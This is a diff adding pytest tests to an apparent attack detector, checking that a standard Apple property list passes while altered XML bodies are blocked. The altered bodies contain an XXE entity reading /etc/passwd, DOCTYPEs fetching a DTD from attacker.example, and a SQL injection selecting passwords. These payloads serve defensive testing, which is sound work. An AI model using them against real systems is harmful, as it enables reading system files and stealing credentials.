@@ -380,3 +380,48 @@ def search_param(name: str, value: str) -> Verdict:
     return DETECTOR.inspect(
         RequestParts.from_target("GET", "/oauth/authorize?" + urlencode({name: value}))
     )
+
+
+# -- XML with the DOCTYPE a standard format carries --------------------------------------
+
+PLIST = b"""<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
+<plist version="1.0"><dict><key>CFBundleName</key><string>Polder</string></dict></plist>
+"""
+
+
+def xml_body(body: bytes) -> Verdict:
+    return DETECTOR.inspect(
+        RequestParts.from_target(
+            "POST", "/api/v1/devices", [("Content-Type", "application/xml")], body
+        )
+    )
+
+
+def test_an_apple_property_list_passes() -> None:
+    assert not xml_body(PLIST).findings
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        # the same identifiers with an internal subset, or an entity, or another system id
+        PLIST.replace(b'.dtd">', b'.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
+        PLIST.replace(b"<plist", b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><plist'),
+        PLIST.replace(b"http://www.apple.com/DTDs/", b"http://attacker.example/"),
+        PLIST.replace(b"PUBLIC", b"SYSTEM"),
+    ],
+)
+def test_any_other_doctype_is_still_refused(body: bytes) -> None:
+    verdict = xml_body(body)
+    assert verdict.blocked
+    assert "xxe" in verdict.categories
+
+
+def test_values_inside_a_property_list_are_inspected() -> None:
+    body = PLIST.replace(
+        b"<string>Polder</string>", b"<string>x' UNION SELECT password FROM users--</string>"
+    )
+    verdict = xml_body(body)
+    assert verdict.blocked
+    assert "sqli" in verdict.categories
